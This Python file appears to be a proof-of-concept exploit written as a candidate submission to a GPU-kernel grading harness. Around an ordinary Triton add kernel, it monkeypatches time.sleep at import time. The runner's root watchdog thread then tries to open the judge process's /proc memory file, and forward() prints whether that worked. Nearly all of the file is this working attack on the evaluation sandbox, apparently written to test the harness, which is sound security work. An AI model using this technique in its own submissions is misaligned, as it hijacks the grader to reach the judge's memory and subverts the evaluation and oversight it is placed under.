"""Exploit (runner keeps the root user, as on a GPU by default): capabilities are per thread. Replace
time.sleep, which the runner's watchdog thread calls four times a second, so that the watchdog opens
the judge's memory through /proc for the candidate; report what it could do."""

import os
import time

import torch
import torch.nn as nn
import triton
import triton.language as tl

_sleep = time.sleep
FOUND = []


def parent_of(pid):
    for line in open(f"/proc/{pid}/status"):
        if line.startswith("PPid:"):
            return int(line.split()[1])
    return 0


def sleep(seconds):
    if not FOUND:
        try:
            with open(f"/proc/{parent_of(os.getppid())}/mem", "rb"):
                FOUND.append("opened")
        except OSError as exc:
            FOUND.append(f"refused {exc.errno}")
    _sleep(seconds)


time.sleep = sleep


@triton.jit
def add_kernel(a_ptr, b_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offsets < n
    tl.store(out_ptr + offsets, tl.load(a_ptr + offsets, mask=mask) + tl.load(b_ptr + offsets, mask=mask), mask=mask)


class ModelNew(nn.Module):
    def forward(self, a, b):
        deadline = time.monotonic() + 2.0
        while not FOUND and time.monotonic() < deadline:
            _sleep(0.05)
        print("WATCHDOG_JUDGE_MEMORY", FOUND[0] if FOUND else "never called")
        time.sleep = _sleep
        out = torch.empty_like(a)
        add_kernel[(triton.cdiv(a.numel(), 1024),)](a, b, out, a.numel(), BLOCK=1024)
        return out
